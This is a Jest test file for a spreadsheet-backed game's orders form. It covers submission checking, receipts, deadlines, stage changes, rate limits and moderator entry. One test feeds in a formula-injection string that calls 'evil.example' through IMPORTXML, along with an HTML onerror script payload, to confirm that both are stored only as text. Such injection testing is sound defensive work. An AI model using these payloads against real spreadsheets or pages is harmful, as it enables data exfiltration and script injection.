import { createStageForm, refreshStageForm } from '../../src/gas/stages/form';
import {
  checkPastedStageOrders,
  recordPastedStageOrders,
  recordPendingStageOrders,
  stageOrdersSubmitted,
} from '../../src/gas/stages/intake';
import type { SpreadsheetService } from '../../src/gas/services';
import type { StageRuleset } from '../../src/ledger/stage-ruleset';
import { stagePlayerView } from '../../src/gas/stages/views';
import { FAKE_STAGE_RULESET as FAKE } from './stages-intake-fake';
import { IRON, MINUTE, SEA, stageLedger } from './stages-intake-ledger';

// The orders form and intake of a staged ruleset (issue 14: "the orders form works for every registered
// ruleset"), with the fake ruleset of stages-intake-fake.ts: its check's codes and messages are its own, the
// receipts' shape is CS42's (src/ledger/orders.ts receiptText).

const HEADER = 'Forts of the North: orders of Iron Host for turn 2, orders';

function withForm() {
  const l = stageLedger();
  const made = createStageForm(l.spreadsheet, FAKE);
  return { ...l, made };
}

afterEach(() => jest.restoreAllMocks());

describe('the orders form of a staged ruleset', () => {
  it('collects verified emails, shows the stage the clock points at and the ruleset help, one trigger', () => {
    const l = withForm();
    expect(l.made.split('\n')).toEqual(
      expect.arrayContaining(['Created the orders form.', 'Installed the form-submit trigger.']),
    );
    const [form] = l.emulation.services.FormApp.forms;
    expect(form.title).toBe('Forts of the North — orders for turn 2, orders');
    expect(form.description).toContain('Forts of the North, turn 2, orders. No deadline is set.');
    expect(form.emailCollectionType).toBe('VERIFIED');
    // A staged book's orders are for a stage: the confirmation says so (CS42's says the turn).
    expect(form.confirmationMessage).toBe(
      'Your orders were received. Your receipt, with each line checked, is emailed to you shortly. Sending the form again replaces your orders for this stage.',
    );
    expect(form.items.map((i) => [i.title, i.helpText, i.required])).toEqual([
      ['Orders', 'One order a line: “Fort - Hold” or “Fort - Raise”.', true],
    ]);
    createStageForm(l.spreadsheet, FAKE);
    const triggers = l.emulation.services.ScriptApp.allTriggers.map((t) => [t.handler, t.source]).sort();
    expect(triggers).toEqual([
      ['onOrdersHourly', 'CLOCK'],
      ['onOrdersSubmitted', 'FORMS'],
    ]);
    expect(l.emulation.services.FormApp.forms).toHaveLength(1);
  });
});

describe('a submission through the form', () => {
  it('is checked by the ruleset, recorded on the Orders tab with its stage, and its receipt mailed', () => {
    const l = withForm();
    const sent = l.emulation.world.now();
    l.submit(IRON, 'Greywall - Hold\nBlackrock - raise\nSaltmarsh - Hold\nGreywall - Dance');
    expect(l.orders()).toEqual([
      {
        Turn: 2,
        Stage: 'orders',
        Player: 'Iron Host',
        Line: 1,
        Text: 'Greywall - Hold',
        Status: 'ok',
        Code: '',
        Message: '',
        Submitted: sent,
      },
      {
        Turn: 2,
        Stage: 'orders',
        Player: 'Iron Host',
        Line: 2,
        Text: 'Blackrock - raise',
        Status: 'corrected',
        Code: 'FK-O003',
        Message: 'read as Raise',
        Submitted: sent,
      },
      {
        Turn: 2,
        Stage: 'orders',
        Player: 'Iron Host',
        Line: 3,
        Text: 'Saltmarsh - Hold',
        Status: 'rejected',
        Code: 'FK-O002',
        Message: "no fort 'Saltmarsh' of yours",
        Submitted: sent,
      },
      {
        Turn: 2,
        Stage: 'orders',
        Player: 'Iron Host',
        Line: 4,
        Text: 'Greywall - Dance',
        Status: 'rejected',
        Code: 'FK-O001',
        Message: "'Dance' is not an order: write Hold or Raise",
        Submitted: sent,
      },
    ]);
    const receipt = [
      HEADER,
      '2 of 4 lines REJECTED (marked below): they do not count unless corrected orders are sent.',
      'Sending the form again replaces these orders for turn 2, orders.',
      '1. Greywall - Hold', // an accepted line with nothing to say: no bare OK under it
      '2. Blackrock - raise',
      '   CORRECTED FK-O003: read as Raise',
      'REJECTED 3. Saltmarsh - Hold',
      "   FK-O002: no fort 'Saltmarsh' of yours",
      'REJECTED 4. Greywall - Dance',
      "   FK-O001: 'Dance' is not an order: write Hold or Raise",
    ];
    expect(l.receipts(IRON)).toEqual([receipt]);
    expect(l.emulation.services.MailApp.outbox[0].subject).toBe('Forts of the North: your orders receipt');
    expect(l.playerTab('Iron Host')).toEqual(receipt.filter((t) => t.trim() !== ''));
    expect(l.logEffects()).toEqual([
      expect.stringMatching(/^Orders received for turn 2, orders: 4 lines, 2 rejected \[response .+\]$/),
    ]);
  });

  it('a resubmission replaces the player’s earlier lines of the stage, and no one else’s', () => {
    const l = withForm();
    l.submit(IRON, 'Greywall - Hold\nBlackrock - Dance');
    l.emulation.world.advanceClock(MINUTE);
    l.submit(SEA, 'Saltmarsh - Hold');
    l.emulation.world.advanceClock(MINUTE);
    l.submit(IRON, 'Greywall - Raise\nBlackrock - Raise');
    expect(l.texts()).toEqual({
      'Sea Lords': ['Saltmarsh - Hold'],
      'Iron Host': ['Greywall - Raise', 'Blackrock - Raise'],
    });
    expect(l.orders().map((r) => r.Line)).toEqual([1, 1, 2]);
    expect(l.receipts(IRON)[1]).toEqual([
      HEADER,
      'All 2 lines accepted.',
      'This submission REPLACED the earlier one for turn 2, orders (sent 2026-01-01 12:00), which was:',
      '   was 1. Greywall - Hold',
      '   was 2. Blackrock - Dance',
      '1. Greywall - Raise',
      '2. Blackrock - Raise',
      'Warning: 2 Raise orders: only one fort may raise per stage',
    ]);
    expect(l.logEffects()[2]).toBe(
      'Replaced by a later submission: line 1 "Greywall - Hold" (ok); line 2 "Blackrock - Dance" (rejected)',
    );
    // Sea Lords sent one line: the Log says so in the singular.
    expect(l.logEffects()[1]).toMatch(
      /^Orders received for turn 2, orders: 1 line, 0 rejected \[response .+\]$/,
    );
    expect(l.receipts(SEA)[0][1]).toBe('The 1 line was accepted.');
  });

  it('after the Order deadline is refused with a clear receipt; the earlier orders stand', () => {
    const l = withForm();
    l.submit(IRON, 'Greywall - Hold');
    l.setSetting('Order deadline', '2026-01-01 12:30');
    l.emulation.world.advanceClock(45 * MINUTE);
    l.submit(IRON, 'Greywall - Raise');
    expect(l.texts()).toEqual({ 'Iron Host': ['Greywall - Hold'] });
    expect(l.receipts(IRON)[1]).toEqual([
      HEADER,
      'REJECTED (ORD-LATE): these orders arrived at 2026-01-01 12:45, after the order deadline of 2026-01-01 12:30 (Etc/UTC). Nothing was recorded and your earlier orders stand; ask the moderator if they should count.',
    ]);
    expect(l.logEffects()[1]).toMatch(
      /^Submission rejected \(ORD-LATE\): these orders arrived at 2026-01-01 12:45/,
    );
    // The run put the moderator's new deadline on the form.
    expect(l.emulation.services.FormApp.forms[0].description).toContain(
      'Orders are due by 2026-01-01 12:30 (Etc/UTC); later ones are refused.',
    );
  });

  it('sent for a stage that is no longer the current one is refused', () => {
    const l = withForm();
    l.submitUnrecorded(IRON, 'Greywall - Hold'); // the trigger found the lock busy: it waits
    l.emulation.world.advanceClock(5 * MINUTE);
    l.setSetting('Stage', 'muster'); // a Resolve moved the clock and refreshed the form
    expect(refreshStageForm(l.spreadsheet, FAKE)).toEqual([]);
    expect(l.emulation.services.FormApp.forms[0].title).toBe(
      'Forts of the North — orders for turn 2, muster',
    );
    l.emulation.world.advanceClock(MINUTE);
    expect(l.emulation.world.runExecution(() => stageOrdersSubmitted(FAKE))).toBe(1);
    expect(l.orders()).toEqual([]);
    expect(l.receipts(IRON)).toEqual([
      [
        'Forts of the North: orders of Iron Host for turn 2, muster',
        'REJECTED (ORD-STAGE): these orders were sent for turn 2, orders, but the campaign is now at turn 2, muster. Nothing was recorded; send your orders for turn 2, muster.',
      ],
    ]);
    l.submit(IRON, 'Greywall - Hold');
    expect(l.orders().map((r) => [r.Stage, r.Text, r.Status])).toEqual([['muster', 'Greywall - Hold', 'ok']]);
  });

  it('for a stage that takes no orders is refused', () => {
    const l = withForm();
    l.setSetting('Stage', 'count');
    refreshStageForm(l.spreadsheet, FAKE);
    l.emulation.world.advanceClock(MINUTE);
    l.submit(SEA, 'Saltmarsh - Hold');
    expect(l.orders()).toEqual([]);
    expect(l.receipts(SEA)).toEqual([
      [
        'Forts of the North: orders of Sea Lords for turn 2, count',
        'REJECTED (ORD-STAGE): the campaign is at turn 2, count, which the moderator resolves without orders. Nothing was recorded; send your orders when the form shows a stage that takes them.',
      ],
    ]);
  });

  it('when the clock moved without the form being told, counts for the new stage and brings the form to it', () => {
    const l = withForm();
    l.submit(IRON, 'Greywall - Hold'); // recorded at 12:00: the intake drained at stage orders
    l.emulation.world.advanceClock(5 * MINUTE);
    l.setSetting('Stage', 'muster'); // resolved without refreshing the form
    l.emulation.world.advanceClock(5 * MINUTE);
    l.submit(SEA, 'Saltmarsh - Raise');
    expect(l.orders().map((r) => [r.Stage, r.Player, r.Text])).toEqual([
      ['orders', 'Iron Host', 'Greywall - Hold'],
      ['muster', 'Sea Lords', 'Saltmarsh - Raise'],
    ]);
    expect(l.emulation.services.FormApp.forms[0].title).toBe(
      'Forts of the North — orders for turn 2, muster',
    );
  });

  it('keeps formula- and HTML-looking player text as text on the Orders tab, the player tab and in the mail', () => {
    const l = withForm();
    const hostile = [
      '=IMPORTXML("http://evil.example","//a") - Hold',
      '<img src=x onerror=alert(1)> - Raise',
      '+Greywall - Hold',
    ];
    l.submit(IRON, hostile.join('\n'));
    expect(l.orders().map((r) => [r.Text, r.Message])).toEqual([
      [hostile[0], `no fort '=IMPORTXML("http://evil.example","//a")' of yours`],
      [hostile[1], "no fort '<img src=x onerror=alert(1)>' of yours"],
      [hostile[2], "no fort '+Greywall' of yours"],
    ]);
    const formulas = l.uncounted(
      () => l.spreadsheet.getSheetByName('Orders')?.getRange(2, 1, 3, 9).getFormulas() ?? [],
    );
    expect(formulas.flat().every((f) => f === '')).toBe(true);
    const tabFormulas = l.uncounted(
      () => l.spreadsheet.getSheetByName('Player · Iron Host')?.getRange(1, 1, 8, 1).getFormulas() ?? [],
    );
    expect(tabFormulas.flat().every((f) => f === '')).toBe(true);
    expect(l.playerTab('Iron Host')).toContain(`REJECTED 1. ${hostile[0]}`);
    const [mail] = l.emulation.services.MailApp.outbox;
    expect(mail.htmlBody).toBeUndefined();
    expect(mail.body).toContain(`REJECTED 2. ${hostile[1]}`);
  });

  it('from an address not on the Players tab is logged, not recorded, and nobody is mailed', () => {
    const l = withForm();
    l.submit('spy@example.com', 'Greywall - Hold');
    expect(l.orders()).toEqual([]);
    expect(l.emulation.services.MailApp.outbox).toEqual([]);
    expect(l.logEffects()).toEqual([
      expect.stringMatching(
        /^Submission rejected \(ORD-UNKNOWN\): email 'spy@example.com' is not on the Players tab\. \[response .+\]$/,
      ),
    ]);
  });
});

describe('the limits of CS42’s intake, kept', () => {
  it('refuses a submission of more than 200 lines, and the 11th of one player within an hour', () => {
    const l = withForm();
    l.submit(SEA, Array.from({ length: 201 }, () => 'Saltmarsh - Hold').join('\n'));
    expect(l.orders()).toEqual([]);
    expect(l.receipts(SEA)[0][1]).toBe(
      'REJECTED (ORD-SIZE): the submission has 201 lines and 3416 characters; at most 200 lines and 20000 characters are accepted. Nothing was recorded and your earlier orders stand.',
    );
    for (let i = 1; i <= 11; i += 1) {
      l.emulation.world.advanceClock(MINUTE);
      l.submit(IRON, i % 2 === 0 ? 'Greywall - Raise' : 'Greywall - Hold');
    }
    // Ten recorded (the tenth, even, raises); the eleventh refused with one receipt; a twelfth not even mailed.
    expect(l.texts()).toEqual({ 'Iron Host': ['Greywall - Raise'] });
    expect(l.receipts(IRON)[10][1]).toBe(
      'REJECTED (ORD-RATE): more than 10 submissions within one hour; this one was not recorded and your earlier orders stand. Wait until the next hour.',
    );
    l.submit(IRON, 'Greywall - Hold');
    expect(l.receipts(IRON)).toHaveLength(11);
    expect(l.texts()).toEqual({ 'Iron Host': ['Greywall - Raise'] });
  });
});

describe('a service failure inside the ruleset’s check', () => {
  it('leaves the response waiting, even when the ruleset caught it and refused every line', () => {
    const l = withForm();
    l.submitUnrecorded(IRON, 'Greywall - Hold');
    // A ruleset whose check turns any fault into refusals (as ME's does for a ledger not ready).
    const swallowing: StageRuleset = {
      ...FAKE,
      checkOrders(tabs, player, text) {
        try {
          return FAKE.checkOrders(tabs, player, text);
        } catch {
          const line = { line: 1, text, status: 'rejected' as const, code: 'FK-O099', message: 'not ready' };
          return { player, clock: FAKE.clock(tabs), lines: [line], warnings: [] };
        }
      },
    };
    let fail = true;
    const flaky = new Proxy(l.spreadsheet, {
      get(target, prop) {
        if (prop === 'getSheetByName')
          return (name: string) => {
            if (name === 'Forts' && fail) {
              fail = false;
              throw new Error('Service Spreadsheets failed while accessing document');
            }
            return target.getSheetByName(name);
          };
        const value = Reflect.get(target, prop, target) as unknown;
        return typeof value === 'function' ? (value as () => unknown).bind(target) : value;
      },
    }) as SpreadsheetService;
    expect(l.emulation.world.runExecution(() => recordPendingStageOrders(flaky, swallowing))).toBe(0);
    expect(l.orders()).toEqual([]);
    expect(l.emulation.services.MailApp.outbox).toEqual([]);
    expect(l.emulation.world.runExecution(() => recordPendingStageOrders(flaky, swallowing))).toBe(1);
    expect(l.orders().map((r) => [r.Text, r.Status])).toEqual([['Greywall - Hold', 'ok']]);
  });
});

describe('what a submission costs', () => {
  it('reads only the tabs the check needs, each once, and writes the Orders tab once', () => {
    const l = withForm();
    l.submitUnrecorded(IRON, 'Greywall - Hold');
    const asked: string[] = [];
    const spreadsheet = new Proxy(l.spreadsheet, {
      get(target, prop) {
        if (prop === 'getSheetByName')
          return (name: string) => {
            asked.push(name);
            return target.getSheetByName(name);
          };
        const value = Reflect.get(target, prop, target) as unknown;
        return typeof value === 'function' ? (value as () => unknown).bind(target) : value;
      },
    }) as SpreadsheetService;
    const calls = l.emulation.world.calls;
    calls.trace = [];
    expect(l.emulation.world.runExecution(() => recordPendingStageOrders(spreadsheet, FAKE))).toBe(1);
    // Not Journal nor Chronicle: the fake's check reads Campaign, Players and Forts; then Orders and Log are
    // written, and the receipt goes on the player's tab (made here, as it did not exist).
    expect(asked).toEqual(['Campaign', 'Players', 'Forts', 'Orders', 'Log', 'Player · Iron Host']);
    const count = (method: string) => calls.trace?.filter((m) => m === method).length;
    expect(count('Sheet.getSheetValues')).toBe(3); // Campaign, Players, Forts
    // The present of Orders and Log (their rows of the turn, not their history), after a getLastRow each.
    expect(count('Sheets.Spreadsheets.Values.batchGet')).toBe(1);
    expect(count('Sheet.getLastRow')).toBe(3); // Orders, Log, and the player's tab the receipt goes on
    expect(count('Range.setValues')).toBe(3); // Orders, Log, the player's tab
    // 2 of them: the form's title and description compared. One fewer than when Orders and Log were read whole:
    // the batchGet of their present tells their grids, so neither write asks getMaxRows.
    expect(calls.trace).toHaveLength(48);
    expect(l.texts()).toEqual({ 'Iron Host': ['Greywall - Hold'] });
  });
});

describe('the moderator’s pasted orders', () => {
  it('checks without recording, then records as the moderator’s (deadline or not), never mailing', () => {
    const l = withForm();
    l.setSetting('Order deadline', '2025-12-31 12:00');
    const checked = checkPastedStageOrders(FAKE, ' iron host ', 'Greywall - Hold\nSaltmarsh - Hold');
    const lines = [
      HEADER,
      '1 of 2 lines REJECTED (marked below): it does not count unless corrected orders are sent.',
      'Entered by the moderator.',
    ];
    const body = [
      '1. Greywall - Hold',
      'REJECTED 2. Saltmarsh - Hold',
      "   FK-O002: no fort 'Saltmarsh' of yours",
    ];
    expect(checked).toEqual({
      recorded: false,
      lines: [...lines, 'Checked only: nothing is recorded until you record it.', ...body],
    });
    expect(l.orders()).toEqual([]);
    const recorded = recordPastedStageOrders(FAKE, ' iron host ', 'Greywall - Hold\nSaltmarsh - Hold');
    expect(recorded).toEqual({
      recorded: true,
      lines: [...lines, 'Sending the form again replaces these orders for turn 2, orders.', ...body],
    });
    expect(l.orders().map((r) => [r.Player, r.Line, r.Status])).toEqual([
      ['Iron Host', 1, 'ok'],
      ['Iron Host', 2, 'rejected'],
    ]);
    expect(l.emulation.services.MailApp.outbox).toEqual([]);
    expect(l.logEffects()).toEqual([
      'Orders received for turn 2, orders (by moderator): 2 lines, 1 rejected',
    ]);
    expect(checkPastedStageOrders(FAKE, 'Nobody', 'Greywall - Hold')).toEqual({
      recorded: false,
      lines: ["'Nobody' is not on the Players tab."],
    });
  });
});

describe('the moderator’s pasted orders at a stage that takes none', () => {
  it('are refused by the check and by the recording alike', () => {
    const l = withForm();
    l.setSetting('Stage', 'count');
    const refusal = [
      'Forts of the North: orders of Iron Host for turn 2, count',
      'REJECTED (ORD-STAGE): the campaign is at turn 2, count, which the moderator resolves without orders. Nothing was recorded; send your orders when the form shows a stage that takes them.',
    ];
    expect(checkPastedStageOrders(FAKE, 'Iron Host', 'Greywall - Hold')).toEqual({
      recorded: false,
      lines: refusal,
    });
    expect(recordPastedStageOrders(FAKE, 'Iron Host', 'Greywall - Hold')).toEqual({
      recorded: false,
      lines: refusal,
    });
    expect(l.orders()).toEqual([]);
  });
});

describe('the player view', () => {
  it('is the ruleset’s view of that player over the tabs', () => {
    stageLedger();
    expect(stagePlayerView(FAKE, 'iron host')).toEqual(['Greywall: strength 3', 'Blackrock: strength 2']);
    expect(stagePlayerView(FAKE, 'Nobody')).toEqual(["'Nobody' is not a player of this campaign."]);
  });
});
